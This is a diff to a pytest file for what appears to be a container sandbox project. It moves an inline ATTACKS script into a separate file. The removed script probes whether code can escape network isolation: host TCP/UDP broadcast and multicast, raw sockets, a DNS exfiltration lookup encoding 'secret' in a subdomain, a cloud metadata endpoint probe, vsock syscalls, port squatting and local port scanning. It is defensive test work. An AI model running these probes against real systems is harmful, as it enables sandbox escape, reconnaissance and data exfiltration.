@@ -13,6 +13,7 @@ import textwrap
 import threading
 import time
 from collections.abc import Iterator
+from pathlib import Path
 
 import podkit
 import pytest
@@ -22,125 +23,7 @@ pytestmark = pytest.mark.docker
 MARK = b"seatrial-attack"
 GROUP = "239.77.77.77"
 
-ATTACKS = """
-import ctypes, os, socket, struct, time
-HOSTS = os.environ["HOSTS"].split()
-PORT = int(os.environ["HOST_PORT"])
-MARK = b"seatrial-attack"
-EVERYWHERE = [*HOSTS, "255.255.255.255", "172.17.255.255", "239.77.77.77", "224.0.0.1"]
-
-def tcp(address, port, timeout=2):
-    try:
-        with socket.create_connection((address, port), timeout=timeout):
-            return "open"
-    except OSError as error:
-        return error.strerror or type(error).__name__
-
-def udp(prepare, flags=0, targets=EVERYWHERE, ancillary=()):
-    sent = []
-    for target in targets:
-        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
-            try:
-                s.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
-                prepare(s)
-                s.sendmsg([MARK], list(ancillary), flags, (target, PORT))
-                sent.append(target)
-            except OSError:
-                pass
-    return sent
-
-def host_tcp():
-    return {a: tcp(a, PORT) for a in HOSTS if not a.startswith("127.")}
-
-def host_udp_broadcast():
-    return udp(lambda s: None)
-
-def host_multicast():
-    def prepare(s):
-        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_TTL, 4)
-        s.setsockopt(socket.IPPROTO_IP, socket.IP_MULTICAST_IF, socket.inet_aton("127.0.0.1"))
-    return udp(prepare, targets=["239.77.77.77", "224.0.0.1"])
-
-def dontroute_bindtodevice():
-    for device in (b"lo", b"eth0", b"docker0", b"ens4"):
-        udp(lambda s: s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, device), socket.MSG_DONTROUTE)
-    return [name for _, name in socket.if_nameindex()]
-
-def pktinfo_dontroute():
-    for index in range(1, 12):
-        info = struct.pack("i4s4s", index, b"\\0" * 4, b"\\0" * 4)
-        udp(lambda s: None, socket.MSG_DONTROUTE, ancillary=[(socket.IPPROTO_IP, 8, info)])
-    return True
-
-def raw_frame_v6():
-    said = {}
-    for name, make in {
-        "packet": lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x86DD)),
-        "raw6": lambda: socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6),
-    }.items():
-        try:
-            make().close()
-            said[name] = "made"
-        except OSError as error:
-            said[name] = error.strerror
-    for index in range(1, 12):
-        try:
-            with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as s:
-                s.sendto(MARK, ("ff02::1", PORT, 0, index))
-        except OSError:
-            pass
-    return said
-
-def arp_oracle():
-    with open("/proc/net/arp") as table, open("/proc/net/route") as routes:
-        return [len(table.readlines()) - 1, len(routes.readlines()) - 1]
-
-def dns_exfil():
-    began = time.monotonic()
-    try:
-        answer = socket.gethostbyname("c2VjcmV0.example.com")
-    except OSError:
-        answer = "none"
-    return [answer, time.monotonic() - began]
-
-def metadata_169_254():
-    return tcp("169.254.169.254", 80)
-
-def vsock():
-    libc = ctypes.CDLL(None, use_errno=True)
-    said = []
-    for family in (40, (1 << 32) | 40):
-        ctypes.set_errno(0)
-        fd = libc.syscall(ctypes.c_long(41), ctypes.c_long(family), ctypes.c_long(1), ctypes.c_long(0))
-        said.append("made" if fd >= 0 else os.strerror(ctypes.get_errno()))
-    return said
-
-def port_squat_sidecar():
-    said = {}
-    for address in ("0.0.0.0", "127.0.0.1", "127.0.0.3"):
-        for option in (None, socket.SO_REUSEADDR, socket.SO_REUSEPORT):
-            with socket.socket() as s:
-                if option:
-                    s.setsockopt(socket.SOL_SOCKET, option, 1)
-                try:
-                    s.bind((address, 9100))
-                    s.listen()
-                    said[f"{address} {option}"] = "taken over"
-                except OSError as error:
-                    said[f"{address} {option}"] = error.strerror
-    return said
-
-def probe_port_scan():
-    found = []
-    for path in ("/proc/net/tcp", "/proc/net/tcp6", "/proc/net/udp", "/proc/net/udp6"):
-        with open(path) as table:
-            rows = [row.split() for row in table.readlines()[1:]]
-        found += [int(r[1].rsplit(":", 1)[1], 16) for r in rows if r[3] == "0A" or "udp" in path]
-    with open("/proc/net/unix") as table:
-        found += [row.split()[7] for row in table.readlines()[1:] if len(row.split()) > 7]
-    found += [port for port in range(1, 12000) if tcp("127.0.0.4", port, 0.2) == "open" and port not in found]
-    return found
-"""
+ATTACKS = (Path(__file__).parent / "inside" / "network.py").read_text()
 NAMES = [
     "host_tcp",
     "host_udp_broadcast",
